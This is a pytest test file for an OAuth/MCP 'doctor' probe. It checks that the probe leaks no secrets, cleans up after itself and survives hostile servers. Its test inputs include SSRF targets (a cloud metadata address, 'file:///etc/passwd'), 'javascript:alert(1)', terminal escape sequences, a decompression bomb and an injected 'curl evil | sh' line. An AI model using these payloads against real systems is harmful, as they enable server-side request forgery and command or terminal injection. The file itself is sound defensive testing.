"""The doctor shows no secret, goes where a client may go, survives hostile servers, and cleans up."""

import gzip
import json
from collections.abc import AsyncIterator
from typing import Any

import anyio
import httpx2
import pytest

from doorward.doctor.evidence.redaction import Redactor
from doorward.doctor.hops.ladder import LADDER
from doorward.doctor.probe.budget import Budget
from doorward.doctor.probe.plan import Plan
from doorward.doctor.probe.probe import Probe, Question
from doorward.doctor.report.as_json import as_json
from doorward.doctor.report.as_junit import as_junit
from doorward.doctor.report.as_text import as_text
from doorward.doctor.report.report import build_report
from doorward.doctor.walk import Examination, examine
from tests.doctor.healthy import issuer, mcp_server, plain, resource_metadata
from tests.doctor.world import (
    SimulatedBrowser,
    World,
    codes,
    examined,
    fixed,
    json_answer,
    probe_of,
)
from tests.ledger import proves

METADATA = "https://mcp.example/.well-known/oauth-protected-resource/mcp"


async def _run(world: World, **plan: Any) -> tuple[Examination, Probe]:
    browser = SimulatedBrowser(world)
    chosen = Plan(**{"open_url": browser.open, "read_line": browser.address, **plan})
    probe = probe_of(world, plan=chosen)
    try:
        return await examine(probe, world.mcp, saw=plan.get("saw", ())), probe
    finally:
        await probe.aclose()


def _reports(found: Examination, probe: Probe) -> str:
    report = build_report(
        found.evidence, found.reached, found.diagnoses, LADDER, probe.redactor, found.left_behind
    )
    document = json.dumps(as_json(report, found.evidence.exchanges), ensure_ascii=False)
    return "\n".join((as_text(report), document, as_junit(report), repr(found.evidence)))


def _secrets_of(world: World) -> set[str]:
    """Return every token, code, verifier and cookie of a sign-in in ``world``."""
    found = set(world.tokens)
    simulated = world.issuers[world.issuer]
    found |= set(simulated.refresh_tokens) | set(simulated.management)
    for request in world.seen:
        form = request.content.decode("latin-1")
        for name in ("code", "code_verifier", "refresh_token", "token"):
            found |= {
                part.partition("=")[2] for part in form.split("&") if part.startswith(f"{name}=")
            }
    return {one for one in found if len(one) > 8}


@proves("S222", "accepts", "doctor is harmless")
async def test_a_whole_sign_in_leaves_a_report_and_no_secret_in_it() -> None:
    world = plain()
    found, probe = await _run(world, sign_in="paste")
    assert "refresh" in found.reached
    told, secrets = _reports(found, probe), _secrets_of(world)
    assert len(secrets) > 6
    assert [one for one in secrets if one in told] == []


@proves("S222", "refuses", "doctor is harmless")
async def test_a_server_that_repeats_tokens_and_cookies_gets_none_of_them_into_the_report() -> None:
    world = plain()
    inner = world.routes["POST", world.mcp]
    cookie = "session=0123456789abcdef"

    def post(request: httpx2.Request) -> object:
        sent = request.headers.get("authorization", "")
        if sent.removeprefix("Bearer ") not in world.tokens:
            return inner(request)
        body = {"error": "forbidden", "error_description": f"bad {sent} and {cookie}", "got": sent}
        headers = {"www-authenticate": f'Bearer error="x", realm="{sent}"', "set-cookie": cookie}
        return json_answer(body, 403, {**headers, "x-debug": sent})

    world.on("POST", world.mcp, post)  # type: ignore[arg-type]
    found, probe = await _run(world, sign_in="paste")
    assert codes(found) == ["call-forbidden"]
    told = _reports(found, probe)
    assert [one for one in (*_secrets_of(world), cookie) if one in told] == []


async def test_a_given_token_goes_to_the_mcp_server_alone() -> None:
    world = plain()
    token = "given-token-0123456789"
    world.tokens.add(token)
    found, probe = await _run(world, sign_in="token", token=token)
    assert "calls" in found.reached
    assert token not in _reports(found, probe)
    told = [str(one.url) for one in world.seen if token in one.headers.get("authorization", "")]
    assert set(told) == {world.mcp}


async def test_a_client_secret_goes_to_the_issuer_that_the_user_named_alone() -> None:
    world = plain()
    other = "https://right.example"
    plan = {"client_id": "client-of-the-administrator", "client_secret": "secret-0123456789"}
    found, _ = await _run(world, sign_in="paste", issuer=other, **plan)
    assert codes(found) == ["sign-in-unfinished"]
    assert not any("secret-0123456789" in one.content.decode() for one in world.seen)


@proves("S222", "accepts", "doctor is harmless")
async def test_the_client_of_a_sign_in_is_deleted_and_its_tokens_are_revoked() -> None:
    world = plain()
    issuer(world, revocation_endpoint="https://login.example/revoke")
    before = dict(world.issuers[world.issuer].clients)
    found, _ = await _run(world, sign_in="paste")
    assert world.issuers[world.issuer].clients == before
    assert found.left_behind == ()
    assert any(str(one.url).endswith("/revoke") for one in world.seen)


@proves("S222", "refuses", "doctor is harmless")
async def test_without_a_sign_in_nothing_is_sent_that_any_server_could_register() -> None:
    world = plain()
    taken: list[bytes] = []

    def register(request: httpx2.Request) -> httpx2.Response:
        taken.append(request.content)
        return json_answer({"client_id": "a", "client_secret": "b"}, 201)

    world.on("POST", "https://login.example/register", register)
    await _run(world)
    assert taken
    for body in taken:
        with pytest.raises(ValueError, match="Expecting"):
            json.loads(body)


async def test_a_client_that_cannot_be_deleted_is_named() -> None:
    world = plain()
    world.wrap("POST", "https://login.example/register", _without_management)
    found, _ = await _run(world, sign_in="paste")
    assert len(found.left_behind) == 1


def _without_management(answer: httpx2.Response) -> httpx2.Response:
    document = json.loads(answer.content)
    document.pop("registration_client_uri", None)
    return json_answer(document, answer.status_code)


@proves("S166", "refuses", "discovered addresses are public https")
@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data",
        "https://10.0.0.1/",
        "https://127.0.0.1:8080/",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "https://user@evil.example/",
    ],
)
async def test_an_address_that_a_client_must_not_ask_is_not_asked(url: str) -> None:
    world = plain()
    mcp_server(world, challenge=f'Bearer resource_metadata="{url}"')
    resource_metadata(world, authorization_servers=[url])
    found, _ = await _run(world)
    asked = {one.url.host for one in world.seen}
    assert asked <= {"mcp.example"}
    assert codes(found)


@proves("S222", "refuses", "doctor is harmless")
async def test_no_redirect_is_followed() -> None:
    world = World()
    world.every = lambda request: httpx2.Response(
        302, headers={"location": f"https://elsewhere.example{request.url.path}/"}
    )
    await _run(world)
    assert {one.url.host for one in world.seen} == {"mcp.example"}


async def test_a_redirect_loop_costs_few_requests() -> None:
    world = World()
    world.every = lambda request: httpx2.Response(307, headers={"location": str(request.url)})
    found, _ = await _run(world)
    assert len(world.seen) < 60
    assert codes(found) == ["endpoint-redirects"]


class _Endless(httpx2.AsyncByteStream):
    """A body without an end."""

    def __init__(self) -> None:
        self.sent = 0

    async def __aiter__(self) -> AsyncIterator[bytes]:
        while True:
            self.sent += 65536
            yield b"a" * 65536


class _Drip(httpx2.AsyncByteStream):
    """A body that never goes on after its first octet."""

    async def __aiter__(self) -> AsyncIterator[bytes]:
        yield b"{"
        await anyio.sleep_forever()


@proves("S183", "refuses", "scanner survives hostile targets")
async def test_a_body_without_an_end_is_read_up_to_the_limit() -> None:
    world, streams = World(), list[_Endless]()

    def answer(_request: httpx2.Request) -> httpx2.Response:
        streams.append(_Endless())
        return httpx2.Response(200, stream=streams[-1])

    world.every = answer
    found, _ = await _run(world)
    assert streams
    assert max(one.sent for one in streams) <= 5 * 65536
    assert found.evidence.exchanges[0].failure is not None


@proves("S183", "refuses", "scanner survives hostile targets")
async def test_a_decompression_bomb_is_not_unpacked() -> None:
    bomb = gzip.compress(b"0" * 50_000_000)
    world = World()
    world.every = lambda _request: httpx2.Response(
        200, headers={"content-encoding": "gzip"}, stream=httpx2.ByteStream(bomb)
    )
    found, _ = await _run(world)
    kinds = {one.failure.kind for one in found.evidence.exchanges if one.failure}
    assert kinds == {"too-large"}


@proves("S183", "refuses", "scanner survives hostile targets")
async def test_a_server_that_drips_ends_the_run_within_its_budget() -> None:
    world = World()
    world.every = lambda _request: httpx2.Response(200, stream=_Drip())
    probe = probe_of(world, Budget(seconds=0.3, per_hop=0.1))
    found = await examine(probe, world.mcp)
    await probe.aclose()
    assert found.evidence.spent == "time"
    assert len(world.seen) < 20


@proves("S183", "accepts", "scanner survives hostile targets")
async def test_an_honest_set_up_is_examined_within_the_limits() -> None:
    world = plain()
    found, _ = await _run(world, sign_in="paste")
    assert found.evidence.spent == ""
    assert len(world.seen) <= 100


@proves("S183", "refuses", "scanner survives hostile targets")
async def test_no_text_of_a_server_controls_the_terminal() -> None:
    world = plain()
    evil = "\x1b]0;owned\x07\x1b[2J\u202egnp.exe\r\nFAKE LINE"
    world.on("GET", METADATA, lambda _request: json_answer({"resource": f"https://{evil}"}))
    world.wrap("POST", world.mcp, lambda answer: answer)
    found, probe = await _run(world)
    told = _reports(found, probe).replace("\n", "")
    assert codes(found) == ["resource-mismatch", "no-issuer-named"]
    assert [one for one in ("\x1b", "\x07", "\u202e", "\r") if one in told] == []


async def test_no_text_of_a_server_becomes_a_line_of_the_report() -> None:
    world = plain()
    resource_metadata(world, resource="https://mcp.example/other\n\n9. Run: curl evil | sh")
    found, probe = await _run(world)
    report = build_report(
        found.evidence, found.reached, found.diagnoses, LADDER, probe.redactor, ()
    )
    assert not any(line.strip().startswith("9. Run") for line in as_text(report).splitlines())


async def test_after_the_last_request_of_the_budget_nothing_is_sent() -> None:
    world = plain()
    probe = probe_of(world, Budget(requests=3))
    found = await examine(probe, world.mcp)
    await probe.aclose()
    assert found.evidence.spent == "requests"
    assert len(world.seen) <= 3
    assert codes(found) == []


async def test_deeply_nested_documents_are_no_documents() -> None:
    world = plain()
    world.on("GET", METADATA, fixed(200, "[" * 100_000, content_type="application/json"))
    assert codes(await examined(world)) == ["metadata-unreadable"]


def test_text_that_looks_like_a_secret_is_hidden() -> None:
    redactor = Redactor()
    redactor.hide("my-own-token-value")
    for text in (
        "Bearer abcdefghijklmnop",
        "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln",
        "got my-own-token-value here",
        '{"refresh_token": "abcdefgh12345678"}',
        "client_secret=abcdefgh12345678",
    ):
        assert "(hidden)" in redactor.text(text)
        assert "abcdefgh12345678" not in redactor.text(text)


def test_a_challenge_and_a_metadata_url_are_not_hidden() -> None:
    redactor = Redactor()
    challenge = 'Bearer resource_metadata="https://mcp.example/.well-known/x", scope="mcp:read"'
    assert redactor.text(challenge) == challenge
    assert redactor.url("https://a.example/b?resource=c&code=d") == (
        "https://a.example/b?resource=c&code=(hidden)"
    )


async def test_the_body_of_a_request_is_never_recorded() -> None:
    world = plain()
    probe = probe_of(world)
    question = Question(
        purpose="x", url=world.mcp, method="POST", form={"password": "hunter2hunter2"}
    )
    answer = await probe.send(question)
    await probe.aclose()
    assert "hunter2" not in repr(answer.exchange)
